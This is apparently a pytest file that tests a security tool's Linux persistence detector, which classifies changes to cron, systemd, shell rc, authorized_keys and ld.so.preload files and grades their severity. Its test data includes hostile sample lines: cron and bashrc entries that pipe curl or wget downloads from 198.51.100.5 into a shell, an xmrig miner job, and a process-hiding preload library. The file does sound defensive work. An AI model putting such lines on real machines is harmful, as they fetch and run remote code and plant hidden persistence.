"""Persistence rules on plain fixture events."""

from __future__ import annotations

import json
import time

import pytest
from fakes import context

from sentinel.core.events import FileChange
from sentinel.core.model import Category, Finding, Severity
from sentinel.detectors.persistence import PersistenceDetector

ROOT = "/tmp/pytest-of-root/t0/etc"


@pytest.fixture(scope="module")
def det() -> PersistenceDetector:
    return PersistenceDetector(context())


def classify(path: str) -> tuple[str, Severity]:
    """The kind of place a new file at `path` is, and its severity, as the detector reports."""
    (f,) = run(PersistenceDetector(context()), path, [], "created")
    return f.rule.removeprefix("persistence."), f.severity


def run(
    det: PersistenceDetector, path: str, added: list[str], kind: str = "modified"
) -> list[Finding]:
    found = list(det.handle(FileChange(time.time(), path, kind, "persistence", added)))
    for f in found:
        assert f.category == Category.PERSISTENCE and f.file is not None and f.file.path == path
    return found


@pytest.mark.parametrize(
    ("path", "kind"),
    [
        ("/etc/crontab", "cron"),
        (f"{ROOT}/cron.d/job", "cron"),
        ("/var/spool/cron/crontabs/root", "cron"),
        ("/etc/systemd/system/x.service", "systemd"),
        ("/home/u/.config/systemd/user/default.target.wants/x.service", "systemd"),
        ("/etc/rc.local", "init"),
        ("/etc/init.d/x", "init"),
        ("/etc/profile.d/x.sh", "shell_rc"),
        ("/root/.bashrc", "shell_rc"),
        ("/home/u/.ssh/authorized_keys", "authorized_keys"),
        ("/etc/ld.so.preload", "ld_preload"),
        ("/etc/ld.so.conf.d/x.conf", "ld_config"),
        ("/home/u/.config/autostart/x.desktop", "autostart"),
        ("/srv/other", "other"),
    ],
)
def test_classify(path: str, kind: str) -> None:
    assert classify(path)[0] == kind


@pytest.mark.parametrize(
    ("path", "line", "severity"),
    [
        (f"{ROOT}/cron.d/job", "0 3 * * * root /usr/local/bin/backup", Severity.MEDIUM),
        (
            f"{ROOT}/cron.d/job",
            "* * * * * root curl -fsSL http://198.51.100.5/x.sh | sh",
            Severity.HIGH,
        ),
        (f"{ROOT}/cron.d/job", "*/5 * * * * root /tmp/.x/run >/dev/null 2>&1", Severity.HIGH),
        (
            f"{ROOT}/cron.d/job",
            "@reboot root wget -q -O- http://198.51.100.5/i | bash",
            Severity.HIGH,
        ),
        (
            f"{ROOT}/crontab",
            "* * * * * root /opt/x/xmrig -o stratum+tcp://127.0.0.1:3333",
            Severity.HIGH,
        ),
        (
            f"{ROOT}/systemd/system/web.service",
            "ExecStart=/usr/bin/python3 -m http.server",
            Severity.MEDIUM,
        ),
        (f"{ROOT}/systemd/system/kw.service", "ExecStart=/var/tmp/kworker", Severity.HIGH),
        (f"{ROOT}/systemd/system/xmrig.service", "ExecStart=/opt/bin/w", Severity.HIGH),
        ("/home/u/.bashrc", "export PATH=$PATH:/opt/bin", Severity.LOW),
        ("/home/u/.bashrc", "nohup /opt/bin/w >/dev/null 2>&1 &", Severity.MEDIUM),
        ("/home/u/.bashrc", "(curl -s http://198.51.100.5/a | bash) &", Severity.HIGH),
        (f"{ROOT}/rc.local", "/opt/bin/w", Severity.MEDIUM),
        (
            "/home/u/.ssh/authorized_keys",
            "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFake x@y",
            Severity.MEDIUM,
        ),
        (
            "/root/.ssh/authorized_keys",
            "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFake x@y",
            Severity.HIGH,
        ),
        (f"{ROOT}/ld.so.preload", "/lib/x86_64-linux-gnu/libfoo.so", Severity.HIGH),
        (f"{ROOT}/ld.so.preload", "/usr/local/lib/libprocesshider.so", Severity.CRITICAL),
        (f"{ROOT}/ld.so.preload", "/usr/lib/.cache/libx.so", Severity.CRITICAL),
        (f"{ROOT}/ld.so.conf.d/x.conf", "/opt/lib", Severity.MEDIUM),
        (f"{ROOT}/ld.so.conf.d/x.conf", "/dev/shm/.l", Severity.HIGH),
    ],
)
def test_severity_by_content(
    det: PersistenceDetector, path: str, line: str, severity: Severity
) -> None:
    (f,) = run(det, path, ["# a comment", "", line])
    assert f.severity == severity
    assert f.evidence["added"] == [line] and f.evidence["added_count"] == 1
    assert f.rule == f"persistence.{classify(path)[0]}"
    assert line[:40] in f.summary


def test_no_additions_no_finding_but_new_files_count(det: PersistenceDetector) -> None:
    assert run(det, f"{ROOT}/cron.d/job", [], kind="modified") == []
    assert run(det, f"{ROOT}/cron.d/job", ["# only a comment"], kind="modified") == []
    (f,) = run(det, f"{ROOT}/systemd/system/multi-user.target.wants/x.service", [], kind="created")
    assert f.rule == "persistence.systemd" and f.severity == Severity.MEDIUM
    assert (
        list(det.handle(FileChange(time.time(), f"{ROOT}/cron.d/x", "created", "drop", ["x"])))
        == []
    )


def test_unit_summary_names_its_exec_line(det: PersistenceDetector) -> None:
    unit = ["[Unit]", "Description=x", "[Service]", "ExecStart=/var/tmp/.k/run", "[Install]"]
    (f,) = run(det, f"{ROOT}/systemd/system/x.service", unit, kind="created")
    assert f.summary.endswith(": ExecStart=/var/tmp/.k/run") and f.evidence["added"] == unit


def test_secrets_in_added_lines_are_redacted(det: PersistenceDetector) -> None:
    lines = [
        "export API_TOKEN=s3cr3t-value",
        'Environment="DB_PASSWORD=hunter22"',
        "token: abc123xyz",
    ]
    (f,) = run(det, "/home/u/.bashrc", lines)
    record = json.dumps(f.to_record())
    for secret in ("s3cr3t-value", "hunter22", "abc123xyz"):
        assert secret not in record
    assert f.evidence["added"][0] == "export API_TOKEN=<redacted>"
